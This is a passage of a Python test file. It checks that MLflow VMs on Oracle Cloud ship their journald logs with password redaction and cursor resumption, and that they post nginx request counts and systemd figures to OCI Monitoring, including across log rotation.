                    "MESSAGE": message, "_SYSTEMD_UNIT": f"mlflow-{role}.service"}) + "\n"
        for n, message in enumerate(messages)))


def test_the_serving_vms_journal_is_shipped_with_its_own_image(deployed, tmp_path, cloud):
    """The serving VM runs the shipper from the serving image, which has only the mlflow_oci modules its
    Dockerfile copies (the podman double gives each image just those)."""
    root, state = _vm(deployed, tmp_path, "serving")
    (tmp_path / "bin" / "journalctl").write_text(JOURNALCTL.format(state=state))
    (tmp_path / "bin" / "journalctl").chmod(0o755)
    settings = dict(line.split("=", 1) for line in (root / "etc/mlflow/logs.env").read_text().splitlines())
    for ocid in settings.values():
        cloud.logs[ocid] = []
        cloud.grant_log(ocid)
    env = dict(_bootstrap_env(root, tmp_path, cloud), MLFLOW_CONF_DIR=str(root / "etc/mlflow"),
               MLFLOW_STATE_DIR=str(root / "var/lib/mlflow"))
    _journal(state, 1, ["now serving models:/wine/2"], "serving")
    shipped = subprocess.run(["bash", str(root / "usr/local/sbin/mlflow-ship-logs")], env=env, capture_output=True,
                             text=True, timeout=120)
    assert shipped.returncode == 0 and "shipped 1 records" in shipped.stderr, shipped.stderr
    assert "localhost/mlflow-serving:latest" in (state / "podman-run.log").read_text()
    assert [json.loads(e["data"])["message"] for e in cloud.logs[settings["MLFLOW_LOG_OCID"]]] == [
        "now serving models:/wine/2"]


def test_the_journal_reaches_the_stacks_logs_and_the_next_pass_goes_on_after_it(deployed, tmp_path, cloud):
    root, state = _vm(deployed, tmp_path)
    (tmp_path / "bin" / "journalctl").write_text(JOURNALCTL.format(state=state))
    (tmp_path / "bin" / "journalctl").chmod(0o755)
    settings = dict(line.split("=", 1) for line in (root / "etc/mlflow/logs.env").read_text().splitlines())
    logs = {change["address"].split('"')[1]: change["change"]["after"]["id"]
            for change in deployed("default").replan["resource_changes"] if change["type"] == "oci_logging_log"}
    assert settings == {"MLFLOW_LOG_OCID": logs["service"], "MLFLOW_AUDIT_LOG_OCID": logs["audit"]}
    for ocid in logs.values():
        cloud.logs[ocid] = []
        cloud.grant_log(ocid)
    env = dict(_bootstrap_env(root, tmp_path, cloud), MLFLOW_CONF_DIR=str(root / "etc/mlflow"),
               MLFLOW_STATE_DIR=str(root / "var/lib/mlflow"))

    def ship():
        return subprocess.run(["bash", str(root / "usr/local/sbin/mlflow-ship-logs")], env=env, capture_output=True,
                              text=True, timeout=120)

    audit_line = '{"audit":"mlflow","user":"alice","action":"experiments/create","experiment_id":"3"}'
    _journal(state, 1, ["backend store: mysql+pymysql://mlflow:Db-p4ss@10.0.2.10:3306/mlflow", audit_line])
    first = ship()
    assert first.returncode == 0 and "shipped 2 records" in first.stderr, first.stderr
    assert [e["data"] for e in cloud.logs[logs["audit"]]] == [audit_line]
    assert "Db-p4ss" not in json.dumps(cloud.logs) and len(cloud.logs[logs["service"]]) == 1
    cursor = root / "var/lib/mlflow/log-cursor"
    assert cursor.read_text() == "s=b00t;i=2"
    calls = (state / "calls.log").read_text().splitlines()
    assert "journalctl --output=json --no-pager --boot --unit mlflow-* --unit nginx.service" in calls

    # the next pass starts after the cursor; one OCI refuses keeps the cursor where it was
    _journal(state, 3, ["a later line"])
    cloud.grants[cloud.instance.instance_ocid].logs.discard(logs["service"])
    refused = ship()
    assert refused.returncode == 3 and "refused or could not be reached" in refused.stderr, refused.stderr
    assert cursor.read_text() == "s=b00t;i=2"
    cloud.grant_log(logs["service"])
    again = ship()
    assert again.returncode == 0 and cursor.read_text() == "s=b00t;i=3", again.stderr
    journal_calls = [c for c in (state / "calls.log").read_text().splitlines() if c.startswith("journalctl ")]
    assert journal_calls[-1].startswith("journalctl --output=json --no-pager --after-cursor s=b00t;i=2 ")
    assert [json.loads(e["data"])["message"] for e in cloud.logs[logs["service"]]][-1] == "a later line"


# --- metrics to OCI Monitoring (userdata/mlflow-metrics.sh, the serving image's mlflow_oci.metrics) -----------
SYSTEMCTL_SHOW = """#!/bin/bash
echo "systemctl $*" >> "{state}/calls.log"
[[ $1 == show ]] || exit 0
printf 'Id=mlflow-serving.service\\nNRestarts=1\\nMemoryCurrent=4194304\\n\\nId=nginx.service\\nNRestarts=0\\nMemoryCurrent=8388608\\n'
"""


def _set_env_file(path: Path, **values) -> None:
    kept = [line for line in path.read_text().splitlines() if line.split("=", 1)[0] not in values]
    path.write_text("\n".join(kept + [f"{k}={v}" for k, v in values.items()]) + "\n")


def test_the_serving_vms_metrics_pass_reads_each_request_once_and_follows_the_logs_rotation(deployed, tmp_path, cloud):
    """The host script hands the requests nginx logged since its last pass, and systemd's figures, to the serving
    image's metrics pass, which posts them with the endpoint's state (the podman double runs it with that image's
    modules only)."""
    root, state = _vm(deployed, tmp_path, "serving")
    (tmp_path / "bin" / "systemctl").write_text(SYSTEMCTL_SHOW.format(state=state))
    conf = root / "etc/mlflow"
    request_log = root / "var/log/nginx/mlflow-requests.log"
    request_log.parent.mkdir(parents=True)
    proxy = dict(line.split("=", 1) for line in (conf / "proxy.env").read_text().splitlines() if line)
    assert proxy["PROXY_REQUEST_LOG"] == str(request_log)  # /var/log/nginx/mlflow-requests.log, under the VM's root
    serving = dict(line.split("=", 1) for line in (conf / "serving.env").read_text().splitlines() if line)
    assert serving["MLFLOW_METRICS_DEPLOYMENT"] == "mlflow" and serving["MLFLOW_METRICS_COMPARTMENT_OCID"]
    secret = cloud.add_secret("serving-login", "serving-pw-7", ocid=serving["MLFLOW_TRACKING_PASSWORD_SECRET_OCID"])
    cloud.grant(secrets=[secret])
    cloud.grants[cloud.instance.instance_ocid].metric_namespaces.add("mlflow")
    registry = metrics_run.fill(tmp_path)  # `wine`, alias champion on version 2
    env = dict(_bootstrap_env(root, tmp_path, cloud), MLFLOW_CONF_DIR=str(conf), MLFLOW_STATE_DIR=str(root / "var/lib/mlflow"))

    def metrics_pass(lines: list[str]) -> dict:
        with request_log.open("a") as log:
            log.writelines(f"{line}\n" for line in lines)
        cloud.metrics.clear()
        result = subprocess.run(["bash", str(root / "usr/local/sbin/mlflow-metrics")], env=env, capture_output=True,
                                text=True, timeout=120)
        assert result.returncode == 0, result.stderr
        return {(m["name"], m["dimensions"].get("route") or m["dimensions"].get("process")):
                m["datapoints"][0]["value"] for m in cloud.metrics}

    with metrics_run.health_endpoint("models:/wine/2") as health:
        _set_env_file(conf / "serving.env", MLFLOW_TRACKING_URI=registry, SERVING_MODEL_NAME="wine",
                      SERVING_MODEL_ALIAS="champion", MLFLOW_METRICS_HEALTH_URL=health)
        first = metrics_pass([metrics_run.request_line("serving", 200, 0.05)] * 3)
        assert first[("mlflow.requests", "serving")] == 3
        assert (first[("mlflow.serving_follows_alias", None)], first[("mlflow.served_model_version", None)]) == (1, 2)
        assert first[("mlflow.restarts", "mlflow-serving")] == 1 and first[("mlflow.memory_bytes", "nginx")] == 8388608
        assert ("mlflow.memory_bytes", "mlflow-serving") not in first  # podman's client, not the container
        assert all(m["dimensions"]["role"] == "serving" for m in cloud.metrics)
        # the next pass counts only what came since
        assert metrics_pass([metrics_run.request_line("serving", 200, 0.05)] * 2)[("mlflow.requests", "serving")] == 2
        # logrotate moves the log away and nginx opens a new one: read from its start
        request_log.rename(request_log.with_suffix(".log-20261207"))
        assert metrics_pass([metrics_run.request_line("serving", 200, 0.05)])[("mlflow.requests", "serving")] == 1
    assert "serving-pw-7" not in (state / "podman-run.log").read_text()
    calls = (state / "podman-run.log").read_text()
    assert "--entrypoint python3 localhost/mlflow-serving:latest -m mlflow_oci.metrics --role serving --requests -" in calls
